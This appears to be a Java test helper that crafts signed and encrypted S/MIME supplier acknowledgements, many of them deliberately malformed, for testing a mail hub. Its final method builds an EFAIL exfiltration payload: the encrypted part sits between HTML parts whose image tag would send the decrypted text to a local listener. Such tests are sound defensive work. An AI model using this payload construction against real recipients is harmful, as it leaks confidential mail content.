package se.inkopsnavet.scenario;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.UUID;
import se.inkopsnavet.neighbourhood.Town;
import se.inkopsnavet.neighbourhood.pki.CertificateRequest;
import se.inkopsnavet.securemail.Attachment;
import se.inkopsnavet.securemail.CertificateCheck;
import se.inkopsnavet.securemail.Letter;
import se.inkopsnavet.securemail.OwnKey;
import se.inkopsnavet.securemail.Pin;
import se.inkopsnavet.securemail.Recipient;
import se.inkopsnavet.securemail.RevocationRule;
import se.inkopsnavet.securemail.SmimeSealer;
import se.inkopsnavet.securemail.Trust;

/** Mail from the supplier that no well-meaning mail program writes. */
record SupplierLetters(Town town) {

    String acceptance(UUID batch, int rows) {
        StringBuilder csv = new StringBuilder("#KVITTENS;" + batch + ";" + rows + ";1\n");
        for (int row = 1; row <= rows; row++) {
            csv.append(row).append(";MOTTAGEN;\n");
        }
        return csv.toString();
    }

    byte[] sealed(String id, String csv) {
        return sealedTo(town.hubKey(), id, csv);
    }

    byte[] sealedToUnknownKey(String id, String csv) {
        CertificateRequest request = CertificateRequest.forAddress(Town.HUB_MAILBOX, Instant.now());
        return sealedTo(town.authority().issue(request.withKeyName("unknown")), id, csv);
    }

    byte[] sealedTo(OwnKey hub, String id, String csv) {
        return sealedTo(hub, id, csv, Instant.now());
    }

    /** @param written what the letter says under its signature */
    byte[] sealedTo(OwnKey hub, String id, String csv, Instant written) {
        return sealed(town.supplierKeys().own(), Instant.now(), hub, written, id, csv);
    }

    /** Signed with that key, and dated so in the signature; the letter itself is of today. */
    byte[] signedBy(OwnKey signer, Instant signed, String id, String csv) {
        return sealed(signer, signed, town.hubKey(), Instant.now(), id, csv);
    }

    /** Another file than an acknowledgement. */
    byte[] sealedFile(String id, String fileName, String text) {
        Attachment file = new Attachment(fileName, "text/plain", text.getBytes(UTF_8));
        return sealed(town.supplierKeys().own(), Instant.now(), town.hubKey(), Instant.now(), id, file);
    }

    private byte[] sealed(OwnKey signer, Instant signed, OwnKey hub, Instant written, String id, String csv) {
        Attachment file = new Attachment("kvittens.csv", "text/csv", csv.getBytes(UTF_8));
        return sealed(signer, signed, hub, written, id, file);
    }

    private byte[] sealed(OwnKey signer, Instant signed, OwnKey hub, Instant written, String id, Attachment file) {
        CertificateCheck check = new CertificateCheck(new Trust(
                Set.of(town.authority().certificate()),
                List.of(),
                List.of(town.authority().crl(signed)),
                RevocationRule.hardFail(Duration.ofDays(3))));
        // In most towns the hub has a short key, for the sake of time.
        Recipient recipient = Recipient.of(
                new Pin(hub.fingerprint(), Town.HUB_MAILBOX), hub.certificate(), Optional.of(LocalDate.MAX));
        Letter letter = new Letter(
                Town.SUPPLIER_MAILBOX,
                Town.HUB_MAILBOX,
                "Kvittens",
                written,
                "<" + id + "-" + UUID.randomUUID() + "@livs.example>",
                "Kvittens bifogas.",
                List.of(file));
        return new SmimeSealer(signer, recipient, () -> check)
                .seal(letter, signed)
                .bytes();
    }

    byte[] withHeaders(byte[] mail, String... headers) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (String header : headers) {
            out.writeBytes((header + "\r\n").getBytes(US_ASCII));
        }
        out.writeBytes(mail);
        return out.toByteArray();
    }

    /** EFAIL: the encrypted mail as a part between two of HTML, whose image would carry the plain text away. */
    byte[] betweenHtml(byte[] mail, int port) {
        String text = new String(mail, US_ASCII);
        int blank = text.indexOf("\r\n\r\n");
        String contentHeaders =
                text.substring(0, blank).replaceAll("(?im)^(?!content-|\\s).*\\r\\n(?:[ \\t].*\\r\\n)*", "");
        return ("From: " + Town.SUPPLIER_MAILBOX + "\r\nTo: " + Town.HUB_MAILBOX + "\r\nSubject: Kvittens\r\n"
                        + "Message-ID: <" + UUID.randomUUID() + "@livs.example>\r\nMIME-Version: 1.0\r\n"
                        + "Content-Type: multipart/mixed; boundary=\"efail\"\r\n\r\n--efail\r\nContent-Type: text/html\r\n\r\n"
                        + "<img src=\"http://127.0.0.1:" + port + "/\r\n--efail\r\n" + contentHeaders + "\r\n"
                        + text.substring(blank + 4)
                        + "\r\n--efail\r\nContent-Type: text/html\r\n\r\n\">\r\n--efail--\r\n")
                .getBytes(US_ASCII);
    }
}
